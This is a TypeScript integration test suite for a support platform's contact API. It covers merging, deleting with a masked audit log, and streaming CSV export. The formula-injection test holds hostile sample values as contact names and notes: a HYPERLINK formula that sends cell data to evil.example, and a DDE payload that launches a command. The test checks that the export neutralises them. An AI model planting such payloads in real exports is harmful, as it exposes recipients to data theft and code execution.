    await asAdmin('POST', '/api/v1/contact-attributes', { key: `tier_${tag}`, label: 'Tier', type: 'text' });
    await asAdmin('POST', '/api/v1/contact-attributes', { key: `region_${tag}`, label: 'Region', type: 'text' });
    await setMatching(admin.token, null);
    try {
      const a = await inbound(inboxA, { sourceId: `merge-a-${tag}`, name: 'Alice' });
      const b = await inbound(inboxA, { sourceId: `merge-b-${tag}`, name: 'Bob', email: `bob.${tag}@example.com`, phone: '+4930999' });
      await asAdmin('PATCH', `/api/v1/contacts/${a.contactId}`, { attributes: { [`tier_${tag}`]: 'Gold' } });
      await asAdmin('PATCH', `/api/v1/contacts/${b.contactId}`, { vip: true, attributes: { [`tier_${tag}`]: 'Silver', [`region_${tag}`]: 'EU' } });
      await db.query(`update contacts set platform_attributes = $1 where id = $2`, [JSON.stringify({ city: 'Berlin' }), a.contactId]);
      await db.query(`update contacts set platform_attributes = $1 where id = $2`, [JSON.stringify({ city: 'Paris', browser: 'Safari' }), b.contactId]);
      await asAdmin('PUT', `/api/v1/contacts/${a.contactId}/opt-outs/sms`);
      await asAgent('PUT', `/api/v1/contacts/${b.contactId}/opt-outs/sms`);
      await asAgent('PUT', `/api/v1/contacts/${b.contactId}/opt-outs/email`);
      await asAgent('PUT', `/api/v1/contacts/${b.contactId}/favourite`);
      await asAdmin('PUT', `/api/v1/contacts/${a.contactId}/favourite`);
      await asAdmin('PUT', `/api/v1/contacts/${b.contactId}/favourite`);

      const merged = await asAgent<ContactDetail>('POST', `/api/v1/contacts/${a.contactId}/merge`, { otherContactId: b.contactId });
      expect(merged.status).toBe(200);
      expect(merged.body).toMatchObject({
        id: a.contactId,
        name: 'Alice', // survivor's non-empty value wins
        email: `bob.${tag}@example.com`, // empty ones filled
        phone: '+4930999',
        vip: true,
        platformAttributes: { city: 'Berlin', browser: 'Safari' },
      });
      expect(merged.body.attributes.filter((x) => x.key.endsWith(tag)).map((x) => [x.key, x.value])).toEqual([
        [`tier_${tag}`, 'Gold'],
        [`region_${tag}`, 'EU'],
      ]);
      expect(merged.body.identities.map((i) => i.address).sort()).toEqual([`merge-a-${tag}`, `merge-b-${tag}`]);
      expect(merged.body.optOuts.map((o) => [o.channelType, o.source])).toEqual([
        ['email', `manual:${agent.id}`],
        ['sms', `manual:${admin.userId}`],
      ]);
      expect(merged.body.favourite).toBe(true);

      const conv = await asAdmin<{ contactId: string }>('GET', `/api/v1/conversations/${b.conversationId}`);
      expect(conv.body.contactId).toBe(a.contactId);
      expect((await asAdmin('GET', `/api/v1/contacts/${b.contactId}`)).status).toBe(404);
      expect(await count('select 1 from contact_favourites where contact_id = $1', [a.contactId])).toBe(2); // admin's two became one, plus agent's
      expect(await count('select 1 from conversations where contact_id = $1', [a.contactId])).toBe(2);
      // a new message from the merged identity lands on the survivor
      expect((await inbound(inboxA, { sourceId: `merge-b-${tag}` })).contactId).toBe(a.contactId);
    } finally {
      await setMatching(admin.token, 'email');
    }
  });

  test('non-admins need to see both contacts; a contact cannot be merged into itself; other accounts 404', async () => {
    const a = await inbound(inboxA, { sourceId: `m2-a-${uniq()}` });
    const hidden = await inbound(inboxB, { sourceId: `m2-b-${uniq()}` });
    const denied = await asAgent<ErrorBody>('POST', `/api/v1/contacts/${a.contactId}/merge`, { otherContactId: hidden.contactId });
    expect(denied.status).toBe(403);
    expect(denied.body.message).toMatch(/needs both contacts visible: you are not a member/);
    expect((await getContact(hidden.contactId)).id).toBe(hidden.contactId);

    const self = await asAdmin<ErrorBody>('POST', `/api/v1/contacts/${a.contactId}/merge`, { otherContactId: a.contactId });
    expect(self.status).toBe(400);
    expect(self.body.details).toEqual([{ field: 'otherContactId', problem: 'must be another contact than the one in the path' }]);
    const badBody = await asAdmin<ErrorBody>('POST', `/api/v1/contacts/${a.contactId}/merge`, { otherContactId: 'x' });
    expect(badBody.body.details?.[0].field).toBe('otherContactId');
    const foreign = await as<ErrorBody>(other.token, 'POST', `/api/v1/contacts/${a.contactId}/merge`, { otherContactId: hidden.contactId });
    expect(foreign.status).toBe(404);

    // admins merge any two
    expect((await asAdmin('POST', `/api/v1/contacts/${a.contactId}/merge`, { otherContactId: hidden.contactId })).status).toBe(200);
    // and now the agent sees the conversation's contact through inbox A
    expect((await getContact(a.contactId, agent.token)).identities).toHaveLength(2);
  });

  test('the conflict rule is in the OpenAPI document', async () => {
    const doc = await http<{ paths: Record<string, Record<string, { description?: string }>> }>(stack, 'GET', '/api/docs-json');
    const description = doc.body.paths['/api/v1/contacts/{id}/merge'].post.description!;
    expect(description).toContain("the survivor's non-empty name, email and phone win, empty ones are filled from the merged contact");
    expect(description).toContain("survivor's values win, keys it lacks are taken over");
    expect(description).toContain('opt-outs: the union (opting out wins)');
  });
});

describe('delete contact', () => {
  async function historyCounts(contactId: string) {
    return {
      contacts: await count('select 1 from contacts where id = $1', [contactId]),
      conversations: await count('select 1 from conversations where contact_id = $1', [contactId]),
      messages: await count('select 1 from messages m join conversations c on c.id = m.conversation_id where c.contact_id = $1', [contactId]),
      identities: await count('select 1 from contact_identities where contact_id = $1', [contactId]),
      favourites: await count('select 1 from contact_favourites where contact_id = $1', [contactId]),
      optOuts: await count('select 1 from contact_opt_outs where contact_id = $1', [contactId]),
    };
  }

  test('admins delete the contact with its history in one transaction and an audit entry with a masked hint', async () => {
    const acc = await signUp(stack, 'Deleting Ltd');
    const inbox = await createInbox(acc.token, 'D');
    await setMatching(acc.token, null);
    const sendFull = async (contact: object, content: string) =>
      (await as<{ contactId: string; conversationId: string }>(acc.token, 'POST', `/api/v1/inboxes/${inbox}/inbound-messages`, { contact, content })).body;
    const send = async (contact: object, content: string) => (await sendFull(contact, content)).contactId;
    const first = await sendFull({ sourceId: 'del-1', name: 'Jane', email: 'jane.doe@example.com', phone: '+49 151 23456712' }, 'one');
    const jane = first.contactId;
    await send({ sourceId: 'del-1' }, 'two');
    await as(acc.token, 'PUT', `/api/v1/contacts/${jane}/favourite`);
    await as(acc.token, 'PUT', `/api/v1/contacts/${jane}/opt-outs/sms`);
    const phoneOnly = await send({ sourceId: 'del-2', phone: '+49 151 23456712' }, 'three');
    const nameOnly = await send({ sourceId: 'del-3', name: 'Zed' }, 'four');
    const nothing = await send({ sourceId: 'quiet-4' }, 'five');

    expect(await historyCounts(jane)).toEqual({ contacts: 1, conversations: 1, messages: 2, identities: 1, favourites: 1, optOuts: 1 });
    expect((await as(acc.token, 'DELETE', `/api/v1/contacts/${jane}`)).status).toBe(204);
    expect(await historyCounts(jane)).toEqual({ contacts: 0, conversations: 0, messages: 0, identities: 0, favourites: 0, optOuts: 0 });
    expect((await as(acc.token, 'GET', `/api/v1/contacts/${jane}`)).status).toBe(404);
    expect((await as(acc.token, 'DELETE', `/api/v1/contacts/${jane}`)).status).toBe(404);
    // the deleted conversation's workflow is ended, not left to fail on a missing conversation
    const described = await stack.temporal.workflow.getHandle(`conversation:${first.conversationId}`).describe();
    expect(described.status.name).toBe('TERMINATED');

    for (const id of [phoneOnly, nameOnly, nothing]) expect((await as(acc.token, 'DELETE', `/api/v1/contacts/${id}`)).status).toBe(204);

    const log = await as<{ items: { maskedHint: string; channelType: string | null; deletedAt: string; deletedByUserId: string; deletedByName: string }[]; nextCursor: string | null }>(
      acc.token,
      'GET',
      '/api/v1/deleted-contacts',
    );
    expect(log.status).toBe(200);
    expect(log.body.items.map((e) => [e.maskedHint, e.channelType, e.deletedByUserId, e.deletedByName])).toEqual([
      ['q***', 'api', acc.userId, 'Admin'],
      ['Z***', 'api', acc.userId, 'Admin'],
      ['+49*********12', 'api', acc.userId, 'Admin'],
      ['j***@e***.com', 'api', acc.userId, 'Admin'],
    ]);
    const times = log.body.items.map((e) => Date.parse(e.deletedAt));
    expect([...times].sort((x, y) => y - x)).toEqual(times);
    expect(log.body.nextCursor).toBeNull();

    const paged = await as<{ items: { maskedHint: string }[]; nextCursor: string }>(acc.token, 'GET', '/api/v1/deleted-contacts?limit=3');
    expect(paged.body.items.map((e) => e.maskedHint)).toEqual(['q***', 'Z***', '+49*********12']);
    const rest = await as<{ items: { maskedHint: string }[]; nextCursor: string | null }>(acc.token, 'GET', `/api/v1/deleted-contacts?limit=3&cursor=${paged.body.nextCursor}`);
    expect(rest.body).toEqual({ items: [expect.objectContaining({ maskedHint: 'j***@e***.com' })], nextCursor: null });
    // nothing of the contact itself is in the log
    expect(JSON.stringify(log.body)).not.toMatch(/jane|23456712|Zed/i);
  });

  test('only admins delete and read the log', async () => {
    const c = await inbound(inboxA, { sourceId: `del-agent-${uniq()}` });
    const res = await asAgent<ErrorBody>('DELETE', `/api/v1/contacts/${c.contactId}`);
    expect(res.status).toBe(403);
    expect(res.body.message).toBe('deleting a contact needs the account administrator role');
    expect((await as(other.token, 'DELETE', `/api/v1/contacts/${c.contactId}`)).status).toBe(404);
    expect((await historyCounts(c.contactId)).conversations).toBe(1);
    const log = await asAgent<ErrorBody>('GET', '/api/v1/deleted-contacts');
    expect(log.status).toBe(403);
    expect(log.body.message).toBe('listing deleted contacts needs the account administrator role');
  });

  test('a failure in the middle leaves nothing half-deleted', async () => {
    const acc = await signUp(stack, 'Failing delete');
    const inbox = await createInbox(acc.token, 'F');
    const c = (await as<{ contactId: string }>(acc.token, 'POST', `/api/v1/inboxes/${inbox}/inbound-messages`, { contact: { sourceId: 'f-1', name: 'Fail' }, content: 'x' })).body
      .contactId;
    await as(acc.token, 'PUT', `/api/v1/contacts/${c}/opt-outs/email`);
    const before = await historyCounts(c);
    expect(before).toEqual({ contacts: 1, conversations: 1, messages: 1, identities: 1, favourites: 0, optOuts: 1 });
    // The audit insert (after the cascading delete, in the same transaction) fails for this account only.
    const fn = `fail_audit_${acc.accountId.replace(/-/g, '')}`;
    await db.query(`create function ${fn}() returns trigger language plpgsql as $$
      begin if new.account_id = '${acc.accountId}' then raise exception 'audit store unavailable'; end if; return new; end $$`);
    await db.query(`create trigger ${fn} before insert on deleted_contacts for each row execute function ${fn}()`);
    try {
      const res = await as(acc.token, 'DELETE', `/api/v1/contacts/${c}`);
      expect(res.status).toBe(500);
    } finally {
      await db.query(`drop trigger ${fn} on deleted_contacts`);
      await db.query(`drop function ${fn}()`);
    }
    expect(await historyCounts(c)).toEqual(before);
    expect(await count('select 1 from deleted_contacts where account_id = $1', [acc.accountId])).toBe(0);
    // and it works once the failure is gone
    expect((await as(acc.token, 'DELETE', `/api/v1/contacts/${c}`)).status).toBe(204);
    expect(await historyCounts(c)).toEqual({ contacts: 0, conversations: 0, messages: 0, identities: 0, favourites: 0, optOuts: 0 });
  });
});

/** An incremental RFC 4180 parser: feeds chunks, calls onRecord for each complete record. */
function csvParser(onRecord: (fields: string[]) => void) {
  let field = '';
  let record: string[] = [];
  let quoted = false;
  let afterQuote = false;
  let pendingCr = false;
  return {
    feed(chunk: string) {
      for (const ch of chunk) {
        if (quoted) {
          if (ch === '"') {
            quoted = false;
            afterQuote = true;
          } else field += ch;
          continue;
        }
        if (pendingCr) {
          pendingCr = false;
          if (ch === '\n') {
            record.push(field);
            onRecord(record);
            record = [];
            field = '';
            afterQuote = false;
            continue;
          }
          throw new Error('bare CR outside quotes');
        }
        if (ch === '"') {
          if (afterQuote) field += '"'; // doubled quote
          quoted = true;
          afterQuote = false;
        } else if (ch === ',') {
          record.push(field);
          field = '';
          afterQuote = false;
        } else if (ch === '\r') {
          pendingCr = true;
        } else {
          field += ch;
          afterQuote = false;
        }
      }
    },
    end() {
      if (quoted || pendingCr || field !== '' || record.length > 0) throw new Error('CSV ends inside a record');
    },
  };
}

describe('CSV export', () => {
  const N = 100_000;
  let acc: { token: string; accountId: string };

  beforeAll(async () => {
    acc = await signUp(stack, 'Export AG');
    await as(acc.token, 'POST', '/api/v1/contact-attributes', { key: 'tier', label: 'Tier', type: 'dropdown', options: ['Gold', 'Silver'] });
    await as(acc.token, 'POST', '/api/v1/contact-attributes', { key: 'note', label: 'Note', type: 'text' });
    // one statement, 100,000 contacts; every 10,000th has a name that needs quoting
    await db.query(
      `insert into contacts (id, account_id, name, email, phone, vip, attributes, created_at, updated_at)
       select gen_random_uuid(), $1,
              case when i % 10000 = 0 then 'Doe, "Jo"' || chr(10) || 'Line ' || i else 'Contact ' || lpad(i::text, 6, '0') end,
              'c' || i || '@example.com',
              case when i % 2 = 0 then '+4930' || lpad(i::text, 6, '0') end,
              i % 7 = 0,
              jsonb_build_object('tier', case when i % 3 = 0 then 'Gold' else 'Silver' end, 'note', repeat('n', 100)),
              timestamptz '2026-01-01 00:00:00+00' + i * interval '1 second',
              now()
       from generate_series(1, ${N}) as i`,
      [acc.accountId],
    );
  }, 120_000);

  test('streams every contact with proper quoting, without holding the export in memory', async () => {
    const url = `${stack.baseUrl}/api/v1/contacts/export.csv?attributes=name,email,phone,vip,tier,note`;
    const baseline = process.memoryUsage().heapUsed;
    let peak = baseline;
    const sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage().heapUsed)), 10);
    const res = await fetch(url, { headers: { authorization: `Bearer ${acc.token}` } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-length')).toBeNull();
    expect(res.headers.get('transfer-encoding')).toBe('chunked');

    const wanted = new Map<number, string[]>();
    let records = 0;
    let header: string[] = [];
    const parser = csvParser((fields) => {
      if (records === 0) header = fields;
      else if ([1, 2, 7, 10000, 99999, N].includes(records)) wanted.set(records, fields);
      if (records > 0 && fields.length !== 6) throw new Error(`record ${records} has ${fields.length} fields`);
      records += 1;
    });
    const reader = res.body!.getReader();
    const decoder = new TextDecoder();
    let chunks = 0;
    let openTransactionsWhileWaiting: unknown[] = [];
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      chunks += 1;
      parser.feed(decoder.decode(value, { stream: true }));
      if (chunks === 1) {
        // The client holds the first bytes and reads no more for a while: the server waits for it
        // between two pages without a transaction (or a connection) of its own.
        await new Promise((r) => setTimeout(r, 200));
        openTransactionsWhileWaiting = (
          await db.query(`select query from pg_stat_activity where datname = current_database() and state like 'idle in transaction%' and pid <> pg_backend_pid()`)
        ).rows;
      }
    }
    parser.feed(decoder.decode());
    parser.end();
    clearInterval(sampler);

    expect(header).toEqual(['name', 'email', 'phone', 'vip', 'tier', 'note']);
    expect(records).toBe(N + 1);
    const note = 'n'.repeat(100);
    expect(wanted.get(1)).toEqual(['Contact 000001', 'c1@example.com', '', 'false', 'Silver', note]);
    // a leading + is a formula trigger in spreadsheets: guarded with a quote (see the formula test)
    expect(wanted.get(2)).toEqual(['Contact 000002', 'c2@example.com', "'+4930000002", 'false', 'Silver', note]);
    expect(wanted.get(7)).toEqual(['Contact 000007', 'c7@example.com', '', 'true', 'Silver', note]);
    expect(wanted.get(10000)).toEqual(['Doe, "Jo"\nLine 10000', 'c10000@example.com', "'+4930010000", 'false', 'Silver', note]);
    expect(wanted.get(99999)).toEqual(['Contact 099999', 'c99999@example.com', '', 'false', 'Gold', note]);
    expect(wanted.get(N)).toEqual([`Doe, "Jo"\nLine ${N}`, `c${N}@example.com`, `'+4930${N}`, 'false', 'Silver', note]);
    expect(chunks).toBeGreaterThan(10);
    expect(openTransactionsWhileWaiting).toEqual([]);
    // the API runs in this process: its heap did not take the ~20 MB export (let alone 100,000 row objects)
    expect((peak - baseline) / 1024 / 1024).toBeLessThan(60);
  }, 120_000);

  test('clients that go away mid-export free their export slots', async () => {
    for (let i = 0; i < 2; i++) {
      const abort = new AbortController();
      const res = await fetch(`${stack.baseUrl}/api/v1/contacts/export.csv?attributes=name,note`, {
        headers: { authorization: `Bearer ${acc.token}` },
        signal: abort.signal,
      });
      expect(res.status).toBe(200);
      const reader = res.body!.getReader();
      await reader.read();
      await reader.read();
      abort.abort();
      await reader.read().catch(() => undefined);
    }
    // Both slots of the account (EXPORT_MAX_CONCURRENT_PER_ACCOUNT=2) are free again: two exports at once run.
    const both = () =>
      Promise.all(
        [1, 2].map(async () => {
          const res = await fetch(`${stack.baseUrl}/api/v1/contacts/export.csv?attributes=name&q=nobody&header=false`, {
            headers: { authorization: `Bearer ${acc.token}` },
          });
          await res.text();
          return res.status;
        }),
      );
    await eventually(async () => ((await both()).join() === '200,200' ? true : undefined), 10_000, 'two exports at once');
    const open = await db.query(`select 1 from pg_stat_activity where datname = current_database() and state like 'idle in transaction%' and pid <> pg_backend_pid()`);
    expect(open.rowCount).toBe(0);
  });

  test('cells that a spreadsheet would run as formulas come out guarded with a leading quote', async () => {
    const acct = await signUp(stack, 'Export formulas');
    await as(acct.token, 'POST', '/api/v1/contact-attributes', { key: 'note', label: 'Note', type: 'text' });
    const inbox = await createInbox(acct.token, 'Formulas');
    // Display names as anyone who writes to the support address chooses them.
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1)', '\tTab', '\rCR', "'=quoted", 'plain -1'];
    for (const [i, name] of names.entries()) {
      const res = await as<{ contactId: string }>(acct.token, 'POST', `/api/v1/inboxes/${inbox}/inbound-messages`, {
        contact: { sourceId: `formula-${i}`, name },
        content: 'hi',
      });
      expect(res.status).toBe(201);
      if (i === 0) {
        const patched = await as(acct.token, 'PATCH', `/api/v1/contacts/${res.body.contactId}`, { attributes: { note: "=cmd|' /C calc'!A0" }, phone: '+49 30 1234' });
        expect(patched.status).toBe(200);
      }
    }
    const res = await fetch(`${stack.baseUrl}/api/v1/contacts/export.csv?attributes=name,phone,note`, { headers: { authorization: `Bearer ${acct.token}` } });
    expect(res.status).toBe(200);
    expect(await res.text()).toBe(
      [
        'name,phone,note',
        `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'+49 30 1234,'=cmd|' /C calc'!A0`,
        "'+1+1,,",
        "'-2+3,,",
        "'@SUM(A1),,",
        "'\tTab,,",
        `"'\rCR",,`,
        "''=quoted,,",
        'plain -1,,',
        '',
      ].join('\r\n'),
    );
  });

  test('exact output with quoting; default columns; filters; unknown attribute names the field', async () => {
    const small = await signUp(stack, 'Export small');
    await as(small.token, 'POST', '/api/v1/contact-attributes', { key: 'tier', label: 'Tier', type: 'dropdown', options: ['Gold'] });
    const inbox = await createInbox(small.token, 'E');
    const c = (await as<{ contactId: string }>(small.token, 'POST', `/api/v1/inboxes/${inbox}/inbound-messages`, {
      contact: { sourceId: 'csv-1', name: 'Smith, "Agent"\nSecond line', email: 'smith@example.com' },
      content: 'hi',
    })).body.contactId;
    await as(small.token, 'PATCH', `/api/v1/contacts/${c}`, { vip: true, attributes: { tier: 'Gold' } });
    await as(small.token, 'POST', `/api/v1/inboxes/${inbox}/inbound-messages`, { contact: { sourceId: 'csv-2', name: '=1+1 <b>' }, content: 'hi' });

    const text = async (path: string) => {
      const res = await fetch(`${stack.baseUrl}${path}`, { headers: { authorization: `Bearer ${small.token}` } });
      return { status: res.status, body: await res.text() };
    };
    expect(await text('/api/v1/contacts/export.csv')).toEqual({
      status: 200,
      body: 'name,email,phone,vip,tier\r\n"Smith, ""Agent""\nSecond line",smith@example.com,,true,Gold\r\n\'=1+1 <b>,,,false,\r\n',
    });
    expect((await text(`/api/v1/contacts/export.csv?attributes=id,name&vip=true`)).body).toBe(`id,name\r\n${c},"Smith, ""Agent""\nSecond line"\r\n`);
    expect((await text(`/api/v1/contacts/export.csv?attributes=vip&q=nobody&header=false`)).body).toBe('');

    const unknown = await http<ErrorBody>({ baseUrl: stack.baseUrl }, 'GET', '/api/v1/contacts/export.csv?attributes=name,shoe_size', undefined, small.token);
    expect(unknown.status).toBe(400);
    expect(unknown.body.details).toEqual([{ field: 'attributes', problem: 'unknown attribute "shoe_size" (known: id, name, email, phone, vip, spam, createdAt, tier)' }]);
    const agentish = await http<ErrorBody>({ baseUrl: stack.baseUrl }, 'GET', '/api/v1/contacts/export.csv', undefined, agent.token);
    expect(agentish.status).toBe(403);
    expect(agentish.body.message).toBe('exporting contacts needs the account administrator role');
  });
});
